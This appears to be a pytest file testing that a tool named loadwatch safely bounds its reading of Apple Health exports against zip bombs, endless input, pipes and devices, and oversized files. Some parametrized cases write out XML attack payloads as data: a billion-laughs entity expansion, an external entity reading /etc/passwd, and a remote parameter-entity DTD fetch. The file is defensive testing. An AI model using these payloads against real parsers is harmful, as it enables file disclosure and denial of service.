"""Apple Health exports, read streamed, are bounded too (issue 13 after issue 14): an
``export.xml`` zip bomb is stopped by its archive's work budget, whatever it inflates to, and
said so; a DTD declaring entities is refused; route files are read as files, never waited on.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import hostile
import pytest
from conftest import Run, assert_bounded, folder_digest, run_cli

MB = hostile.MB
BOMB = r"decompresses to more than [\d,]+ MB, more than loadwatch reads from an archive of its size"
ENTITIES = "declares entities or external files in its DTD, which loadwatch refuses for safety"
XML = "apple_health_export/export.xml"


def _run(folder: Path) -> Run:
    """Run the CLI on ``folder``; check it was bounded and left the folder as it was."""
    before = folder_digest(folder)
    run = run_cli(str(folder))
    assert_bounded(run)
    assert folder_digest(folder) == before
    return run


def test_an_export_xml_inflating_to_4_gb_is_stopped_as_a_zip_bomb(attack: Path) -> None:
    """A 5 MB export.zip whose export.xml inflates to 4 GB is read up to its budget (100 times
    its compressed size, about 470 MB), then skipped as a zip bomb, not as a loadwatch bug."""
    (attack / "export.zip").write_bytes(hostile.apple_zip(hostile.apple_bomb()))
    assert (attack / "export.zip").stat().st_size < 8 * MB
    reason = _run(attack).skipped()[f"export.zip/{XML}"]
    assert re.fullmatch(BOMB + "; a zip bomb[?]", reason)


def test_a_nested_export_bomb_shares_its_holders_budget(attack: Path) -> None:
    """The same export.zip inside another zip (60 kB in all) is stopped the same way."""
    (attack / "backup.zip").write_bytes(hostile.apple_zip_nested(hostile.apple_bomb()))
    assert (attack / "backup.zip").stat().st_size < MB
    reason = _run(attack).skipped()[f"backup.zip/export.zip/{XML}"]
    assert re.match(BOMB, reason)


def test_an_export_of_endless_whitespace_is_refused_early(attack: Path) -> None:
    """An export.xml of 4 GB of spaces (no tag ever ends) is refused at 64 kB without a '>'."""
    bomb = hostile.apple_bomb(unit=b" " * 4096)
    (attack / "export.zip").write_bytes(hostile.apple_zip(bomb))
    reason = _run(attack).skipped()[f"export.zip/{XML}"]
    assert reason.startswith("has more than 64 kB without an end of tag")


def test_a_route_named_by_every_workout_is_read_within_the_budget(attack: Path) -> None:
    """5,000 workouts naming one route file of 60 MB (zeros) stop at the archive's budget
    instead of inflating it 5,000 times."""
    route = hostile.repeated(60 * MB, b"<?xml")
    export = hostile.stored(hostile.apple_export(workouts=5000))
    members = [(XML, export), ("apple_health_export/workout-routes/route_1.gpx", route)]
    (attack / "export.zip").write_bytes(hostile.zip_of(members))
    assert re.match(BOMB, _run(attack).skipped()[f"export.zip/{XML}"])


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "AAAAAAAAAA">\n<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        '\n<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">',
        '<!ELEMENT HealthData ANY>\n<!ENTITY secret SYSTEM "file:///etc/passwd">',
        '<!ENTITY % remote SYSTEM "http://example.invalid/x.dtd">\n%remote;',
        '<!-- <!ELEMENT x ANY> --><!ENTITY c "CCCCCCCC">',
    ],
    ids=["laughs", "external", "parameter", "after-a-comment"],
)
def test_an_export_whose_dtd_declares_entities_is_refused(attack: Path, subset: str) -> None:
    """An export.xml declaring entities (expanding or reading files), plain or zipped, is
    refused whole: its workout is not read and no entity reaches the report."""
    data = hostile.apple_with_dtd(subset)
    (attack / "plain").mkdir()
    (attack / "plain" / "export.xml").write_bytes(data)
    (attack / "export.zip").write_bytes(hostile.zip_of([(XML, hostile.stored(data))]))
    run = _run(attack)
    skipped = run.skipped()
    assert skipped["plain/export.xml"].startswith(ENTITIES)
    assert skipped[f"export.zip/{XML}"].startswith(ENTITIES)
    assert run.json()["activities"] == []
    assert "AAAA" not in run.stdout and "root:" not in run.stdout


def test_an_export_with_an_external_dtd_is_refused(attack: Path) -> None:
    """A DOCTYPE naming an external DTD (no internal subset) is refused too."""
    data = hostile.apple_export().replace(
        b"<HealthData", b'<!DOCTYPE HealthData SYSTEM "file:///etc/passwd">\n<HealthData', 1
    )
    (attack / "export.xml").write_bytes(data)
    reason = _run(attack).skipped()["export.xml"]
    assert reason.startswith("declares a DTD that is not Apple Health's")


def test_route_files_that_are_a_pipe_or_a_device_are_not_waited_on(attack: Path) -> None:
    """A route file that is a named pipe, or a link to /dev/zero, is left out: the workout is
    read without it, and the run ends."""
    (attack / "export.xml").write_bytes(hostile.apple_export())
    (attack / "workout-routes").mkdir()
    os.mkfifo(attack / "workout-routes" / "route_1.gpx")
    run = _run(attack)
    assert len(run.json()["activities"]) == 1
    assert "export.xml" not in run.skipped()
    (attack / "workout-routes" / "route_1.gpx").unlink()
    (attack / "workout-routes" / "route_1.gpx").symlink_to("/dev/zero")
    assert len(_run(attack).json()["activities"]) == 1


def test_an_export_xml_larger_than_16_gb_is_skipped_unread(attack: Path) -> None:
    """An export.xml of 17 GB (sparse: it takes no disk) is skipped by its size, not hashed."""
    with (attack / "export.xml").open("wb") as handle:
        handle.write(hostile.apple_export())
        handle.truncate(17 * 1024**3)
    reason = _run(attack).skipped()["export.xml"]
    assert reason.startswith("is larger than 16 GB, more than loadwatch reads from one Apple")
